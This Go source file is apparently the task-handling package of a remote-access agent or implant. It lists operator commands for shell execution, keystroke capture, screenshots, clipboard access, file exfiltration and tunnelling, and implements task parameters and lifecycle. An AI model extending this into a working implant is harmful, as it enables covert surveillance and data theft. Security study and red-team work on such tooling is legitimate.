// Package task holds the unit of operator-issued work and the registry
// that owns every task from fetch until its result is acknowledged.
package task

import (
	"context"
	"fmt"
	"math"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
)

// Kind names an operation.  The values are the wire names the server
// uses in the taskType field.
type Kind string

const (
	KindSystem     Kind = "system"     // run a shell command
	KindDownload   Kind = "download"   // send a local file to the server
	KindUpload     Kind = "upload"     // fetch a server-hosted file to disk
	KindWebload    Kind = "webload"    // fetch an arbitrary URL to disk
	KindWriteDir   Kind = "writedir"   // change the default write directory
	KindKeymon     Kind = "keymon"     // capture keystrokes for a while
	KindKeymonDev  Kind = "keymondev"  // choose the keystroke capture device
	KindAbort      Kind = "abort"      // end the session
	KindDelay      Kind = "delay"      // change the callback delay
	KindCd         Kind = "cd"         // change the working directory
	KindKill       Kind = "kill"       // cancel another task
	KindTunnel     Kind = "tunnel"     // listen locally and forward to a remote
	KindBridge     Kind = "bridge"     // join two remote endpoints
	KindClipRead   Kind = "clipread"   // read the clipboard
	KindClipWrite  Kind = "clipwrite"  // write the clipboard
	KindScreenshot Kind = "screenshot" // capture the screen and upload it
	KindPublicIP   Kind = "ip"         // report the host's public address
)

// Kinds lists every operation the agent understands.
var Kinds = []Kind{
	KindSystem, KindDownload, KindUpload, KindWebload, KindWriteDir,
	KindKeymon, KindKeymonDev, KindAbort, KindDelay, KindCd, KindKill,
	KindTunnel, KindBridge, KindClipRead, KindClipWrite, KindScreenshot,
	KindPublicIP,
}

// Known reports whether k is one of [Kinds].
func (k Kind) Known() bool {
	for _, known := range Kinds {
		if k == known {
			return true
		}
	}
	return false
}

// ── Wire structures ──────────────────────────────────────────────────

// Descriptor is one job as delivered by the task fetch endpoint.
type Descriptor struct {
	UID  string `json:"uid" cbor:"uid"`
	Type string `json:"taskType" cbor:"taskType"`
	Data Params `json:"data,omitempty" cbor:"data,omitempty"`
}

// Result is one entry of a submitted result batch.
type Result struct {
	UID        string `json:"uid" cbor:"uid"`
	Result     string `json:"result" cbor:"result"`
	Successful bool   `json:"successful" cbor:"successful"`
}

// Params is a task's free-form parameter object.
type Params map[string]any

// String returns the parameter as a string.  Numbers are formatted
// without a trailing ".0" so a port sent as 8080 reads back as "8080".
func (p Params) String(key string) (string, bool) {
	v, ok := p[key]
	if !ok || v == nil {
		return "", false
	}
	switch x := v.(type) {
	case string:
		return x, true
	case float64:
		return strconv.FormatFloat(x, 'f', -1, 64), true
	case int64:
		return strconv.FormatInt(x, 10), true
	case uint64:
		return strconv.FormatUint(x, 10), true
	case int:
		return strconv.Itoa(x), true
	case bool:
		return strconv.FormatBool(x), true
	default:
		return fmt.Sprint(x), true
	}
}

// Int returns the parameter as an int.  It accepts JSON numbers
// (float64), CBOR integers and numeric strings, since the operator
// console sometimes forwards values as typed text.
func (p Params) Int(key string) (int, bool) {
	v, ok := p[key]
	if !ok || v == nil {
		return 0, false
	}
	switch x := v.(type) {
	case float64:
		if x != math.Trunc(x) || x > math.MaxInt32 || x < math.MinInt32 {
			return 0, false
		}
		return int(x), true
	case int64:
		if x > math.MaxInt32 || x < math.MinInt32 {
			return 0, false
		}
		return int(x), true
	case uint64:
		if x > math.MaxInt32 {
			return 0, false
		}
		return int(x), true
	case int:
		return x, true
	case string:
		n, err := strconv.Atoi(strings.TrimSpace(x))
		if err != nil {
			return 0, false
		}
		return n, true
	default:
		return 0, false
	}
}

// ── Task ─────────────────────────────────────────────────────────────

// Task is one unit of work.  The executor goroutine that runs it is the
// only writer of its result; any goroutine may request cancellation.
type Task struct {
	id     string
	kind   Kind
	params Params

	ctx    context.Context
	cancel context.CancelFunc

	cancelRequested atomic.Bool
	completed       atomic.Bool

	mu     sync.Mutex
	result Result
	done   chan struct{}
}

// New builds a Task from a descriptor.  The task's context is derived
// from parent (the session context), so a session abort reaches every
// task without touching the registry.
func New(parent context.Context, d Descriptor) (*Task, error) {
	if d.UID == "" {
		return nil, fmt.Errorf("task descriptor without uid (type %q)", d.Type)
	}
	params := d.Data
	if params == nil {
		params = Params{}
	}
	ctx, cancel := context.WithCancel(parent)
	return &Task{
		id:     d.UID,
		kind:   Kind(d.Type),
		params: params,
		ctx:    ctx,
		cancel: cancel,
		result: Result{UID: d.UID},
		done:   make(chan struct{}),
	}, nil
}

// ID returns the server-assigned task id.
func (t *Task) ID() string { return t.id }

// Kind returns the operation kind.  It may be a kind the agent does
// not understand; the executor reports those as not implemented.
func (t *Task) Kind() Kind { return t.kind }

// Params returns the task parameters.
func (t *Task) Params() Params { return t.params }

// Context is cancelled when the task is cancelled, the session aborts
// or the registry releases the task.
func (t *Task) Context() context.Context { return t.ctx }

// RequestCancel sets the cooperative cancellation flag and cancels the
// task context.  It does not wait for the handler to stop.
func (t *Task) RequestCancel() {
	t.cancelRequested.Store(true)
	t.cancel()
}

// CancelRequested reports whether cancellation was requested for this
// task specifically (session aborts do not set it).
func (t *Task) CancelRequested() bool { return t.cancelRequested.Load() }

// Complete records the result.  Only the first call has any effect; it
// reports whether this call was the one that completed the task.
func (t *Task) Complete(text string, ok bool) bool {
	t.mu.Lock()
	if t.completed.Load() {
		t.mu.Unlock()
		return false
	}
	t.result.Result = text
	t.result.Successful = ok
	t.completed.Store(true)
	t.mu.Unlock()
	close(t.done)
	return true
}

// Completed reports whether a result has been recorded.
func (t *Task) Completed() bool { return t.completed.Load() }

// Done is closed once the task completes.
func (t *Task) Done() <-chan struct{} { return t.done }

// Result returns a copy of the recorded result.
func (t *Task) Result() Result {
	t.mu.Lock()
	defer t.mu.Unlock()
	return t.result
}

// release frees the task context.  Only the registry calls it, once the
// task has left both sets.
func (t *Task) release() { t.cancel() }

func (t *Task) String() string {
	return fmt.Sprintf("%s(%s)", t.kind, t.id)
}
